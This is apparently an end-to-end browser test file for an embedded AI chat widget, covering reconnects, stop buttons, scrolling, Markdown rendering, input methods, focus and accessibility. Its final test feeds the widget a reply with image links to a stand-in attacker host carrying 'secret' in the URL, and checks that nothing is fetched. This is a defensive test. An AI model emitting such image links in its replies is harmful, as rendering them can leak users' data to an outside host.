/** What visitors suffer from in embedded chats: words lost, doubled or stuck, a fight over the scroll bar, half words sent. */
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ClientFrame, ServerFrame } from '../../schema/wire/frames.ts'
import { launchChromium } from '../chromium/launch-chromium.ts'
import { openStage, type Stage } from '../stage/open-stage.ts'
import { field, launcher, log, open, PLAIN, say, twin } from './at-stage.ts'

let browser: Browser

beforeAll(async () => {
  browser = await launchChromium()
})
afterAll(() => browser?.close())

const plain = { '/': PLAIN }
const sends = ({ frames }: Stage) => frames.filter(({ type }) => type === 'message-send')
const at = '2026-11-21T18:00:00.000Z'

/** Journals a message and begins its reply. */
function begin(frame: ClientFrame, say: (frame: ServerFrame) => void, words: readonly string[]): number {
  if (frame.type !== 'message-send') return 0
  const { messageId, text } = frame
  const turnId = 't1'
  say({ type: 'message-added', seq: 1, position: 1, turnId, at, messageId, text })
  say({ type: 'ack', seq: 1, messageId, turnId })
  say({ type: 'reply-start', seq: 2, position: 2, turnId, at, messageId: 'r1' })
  words.forEach((word, index) => say([3 + index, word]))
  return 3 + words.length
}

describe('pain 8: messages lost or doubled across a reconnect', () => {
  it('sends what was never acknowledged again under its own id, and shows it once', async () => {
    let first = true
    const stage = await openStage(browser, {
      pages: plain,
      room: {
        take(frame, answer) {
          if (frame.type !== 'message-send') return
          if (first) {
            first = false
            return void stage.sockets.at(-1)?.close({ code: 1012 })
          }
          answer({ type: 'reply-end', seq: begin(frame, answer, ['Heard.']), turnId: 't1', outcome: 'answered' })
        },
      },
    })
    await open(stage.page)
    await say(stage.page, 'Is anybody there?')
    await log(stage.page).getByText('Heard.').waitFor()
    const [one, two, ...more] = sends(stage)
    expect(two).toEqual(one)
    expect(more).toEqual([])
    expect(await log(stage.page).getByText('Is anybody there?').count()).toBe(1)
    await stage.close()
  })
})

describe('pain 9: a stop that does not stop', () => {
  it('is sent before the first word, and after a reload', async () => {
    const stage = await openStage(browser, {
      pages: plain,
      room: {
        take(frame, answer) {
          if (frame.type === 'message-send') begin(frame, answer, [])
          if (frame.type === 'reply-stop')
            answer({ type: 'reply-end', seq: 3, turnId: frame.turnId, outcome: 'stopped' })
        },
      },
    })
    await open(stage.page)
    await say(stage.page, 'Talk for long')
    await stage.page.getByRole('button', { name: 'Stop the reply' }).click()
    await log(stage.page).getByText('Stopped here, as you asked.').waitFor()
    expect(stage.frames.filter(({ type }) => type === 'reply-stop')).toEqual([{ type: 'reply-stop', turnId: 't1' }])
    await stage.close()
  })
})

describe('pain 11: a conversation lost on reload, or one that cannot be left', () => {
  it('is open again after a reload, and one act begins another', async () => {
    const stage = await openStage(browser, { pages: plain })
    await open(stage.page)
    await say(stage.page, 'Good evening')
    await log(stage.page).getByText('Good evening.', { exact: true }).waitFor()
    await stage.page.reload()
    await field(stage.page).waitFor()
    await twin(stage.page).evaluate((element) => {
      const { newConversation }: { newConversation?: () => Promise<void> } = Object(element)
      return newConversation?.call(element)
    })
    await expect.poll(() => stage.sessions.at(-1)).toMatchObject({ conversation: 1 })
    await stage.close()
  })
})

describe('pain 16: phones whose keyboard covers the field, or zooms the page', () => {
  it('has a field of 16 px, and a sheet that ends above the keyboard', async () => {
    const stage = await openStage(browser, {
      pages: plain,
      context: { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true },
    })
    await open(stage.page)
    expect(
      await field(stage.page).evaluate((input) => parseFloat(getComputedStyle(input).fontSize)),
    ).toBeGreaterThanOrEqual(16)
    await field(stage.page).tap()
    // A keyboard takes the lower part of what can be seen, and leaves the layout as it was: so does iOS.
    await stage.page.evaluate(() => {
      const view = window.visualViewport
      if (!view) throw new Error('no visual viewport')
      Object.defineProperty(view, 'height', { get: () => 480, configurable: true })
      view.dispatchEvent(new Event('resize'))
    })
    await expect
      .poll(async () => {
        const box = await field(stage.page).boundingBox()
        return (box?.y ?? 0) + (box?.height ?? 0)
      })
      .toBeLessThanOrEqual(480)
    await stage.close()
  })
})

describe('pain 17: scrolling that fights the reader', () => {
  it('stays where one reads while a reply grows, and says what is new below', async () => {
    const lines = Array.from({ length: 30 }, (_, index) => `Line ${index}\n\n`)
    let speak: (frame: ServerFrame) => void = () => {}
    const stage = await openStage(browser, {
      pages: plain,
      room: {
        take(frame, answer) {
          speak = answer
          begin(frame, answer, lines)
        },
      },
    })
    await open(stage.page)
    await say(stage.page, 'Tell me everything')
    await log(stage.page).getByText('Line 29').waitFor()
    await log(stage.page).hover()
    await stage.page.mouse.wheel(0, -400)
    const jump = twin(stage.page).locator('[part~="jump-button"]')
    await jump.waitFor()
    const line = log(stage.page).getByText('Line 12')
    const place = async (): Promise<number> => (await line.boundingBox())?.y ?? 0
    let top = await place()
    await expect.poll(async () => top === (top = await place())).toBe(true) // the wheel has come to rest
    for (let seq = 33; seq < 63; seq += 1) speak([seq, `More ${seq}\n\n`])
    speak({ type: 'reply-end', seq: 63, turnId: 't1', outcome: 'answered' })
    await log(stage.page).getByText('More 62').waitFor({ state: 'attached' })
    expect(await place()).toBe(top)
    await jump.click()
    await expect
      .poll(() =>
        log(stage.page).evaluate(
          ({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight,
        ),
      )
      .toBeLessThan(2)
    await stage.close()
  })
})

describe('pain 18: Markdown that flickers', () => {
  it('draws at most once a frame, and never again what stands', async () => {
    let speak: (frame: ServerFrame) => void = () => {}
    const stage = await openStage(browser, {
      pages: plain,
      room: {
        take(frame, answer) {
          speak = answer
          begin(frame, answer, ['First **paragraph**.\n\n'])
        },
      },
    })
    await open(stage.page)
    await say(stage.page, 'Tell me')
    await log(stage.page).getByText('paragraph').waitFor()
    await stage.page.evaluate(() => {
      const reply = document.querySelector('vibethink-twin')?.shadowRoot?.querySelector('.reply')
      if (!reply) throw new Error('no reply')
      const { firstChild } = reply
      const note = { frames: 0, draws: 0, removed: 0, same: () => reply.firstChild === firstChild }
      Object.assign(window, { note })
      const tick = (): void => {
        note.frames += 1
        requestAnimationFrame(tick)
      }
      requestAnimationFrame(tick)
      new MutationObserver((records) => {
        note.draws += 1
        for (const { removedNodes } of records) note.removed += removedNodes.length
      }).observe(reply, { childList: true, characterData: true, subtree: true })
    })
    for (let seq = 4; seq < 304; seq += 1) speak([seq, `word${seq} `])
    await log(stage.page).getByText('word303').waitFor()
    const { frames, draws, removed, same } = await stage.page.evaluate<{
      frames: number
      draws: number
      removed: number
      same: boolean
    }>('({ ...window.note, same: window.note.same() })')
    expect(draws).toBeLessThanOrEqual(frames + 1)
    expect({ removed, same }).toEqual({ removed: 0, same: true })
    await stage.close()
  })
})

describe('pain 19: an input method whose Enter sends half a word', () => {
  it.each([
    ['as the standard says it', { isComposing: true }],
    ['as Safari says it', { keyCode: 229 }],
  ])('sends nothing while a word is being composed, %s', async (_case, more) => {
    const stage = await openStage(browser, { pages: plain })
    await open(stage.page)
    await field(stage.page).fill('にほん')
    await field(stage.page).dispatchEvent('keydown', { key: 'Enter', bubbles: true, composed: true, ...more })
    expect(await field(stage.page).inputValue()).toBe('にほん')
    await field(stage.page).press('Enter')
    await expect.poll(() => sends(stage).length).toBe(1)
    await stage.close()
  })
})

describe('pain 20: keys that leak, and focus that is stolen', () => {
  it('keeps what is typed from the shortcuts of the page', async () => {
    const stage = await openStage(browser, {
      pages: plain,
      before: `window.keys = []; for (const type of ['keydown', 'keypress', 'keyup']) document.addEventListener(type, ({ key }) => window.keys.push(key))`,
    })
    await open(stage.page)
    await stage.page.evaluate('window.keys = []')
    await field(stage.page).pressSequentially('jk /?')
    expect(await stage.page.evaluate('window.keys')).toEqual([])
    await stage.close()
  })

  it('takes no focus and scrolls nothing on load, and gives focus back on closing', async () => {
    const stage = await openStage(browser, { pages: plain })
    await launcher(stage.page).waitFor()
    expect(await stage.page.evaluate('document.activeElement === document.body && scrollY === 0')).toBe(true)
    await launcher(stage.page).focus()
    await stage.page.keyboard.press('Enter')
    await expect.poll(() => field(stage.page).evaluate((input) => input.matches(':focus'))).toBe(true)
    await stage.page.keyboard.press('Escape')
    await expect.poll(() => launcher(stage.page).evaluate((button) => button.matches(':focus'))).toBe(true)
    await stage.close()
  })
})

describe('pain 21: screen readers told every token, or nothing', () => {
  it('says a reply once, when it is whole, outside the log', async () => {
    let speak: (frame: ServerFrame) => void = () => {}
    const stage = await openStage(browser, {
      pages: plain,
      room: {
        take(frame, answer) {
          speak = answer
          begin(frame, answer, ['One '])
        },
      },
    })
    await open(stage.page)
    await say(stage.page, 'Count')
    await log(stage.page).getByText('One').waitFor()
    expect(await log(stage.page).getAttribute('aria-live')).toBe('off')
    expect(await log(stage.page).getAttribute('aria-busy')).toBe('true')
    const status = twin(stage.page).getByRole('status')
    expect(await status.allTextContents()).not.toContain('One')
    for (let seq = 4; seq < 9; seq += 1) speak([seq, `word${seq} `])
    await log(stage.page).getByText('word8').waitFor()
    expect((await status.allTextContents()).join()).not.toContain('word8')
    speak({ type: 'reply-end', seq: 9, turnId: 't1', outcome: 'answered' })
    await expect.poll(async () => (await status.allTextContents()).join()).toContain('Remy Vale: One word4')
    await expect.poll(() => log(stage.page).getAttribute('aria-busy')).toBe('false')
    await stage.close()
  })
})

describe('pain 22: words that fetch, and so carry secrets away', () => {
  it('shows no picture a reply names, unless the deployment allows its host', async () => {
    const stage = await openStage(browser, {
      pages: plain,
      room: { reply: 'Look: ![a goal](https://evil.example/?q=secret) <img src=https://evil.example/2> done.' },
    })
    await open(stage.page)
    await say(stage.page, 'Show me')
    await log(stage.page).getByText('done.').waitFor()
    expect(stage.requests.filter((request) => request.includes('evil.example'))).toEqual([])
    await stage.close()
  })
})
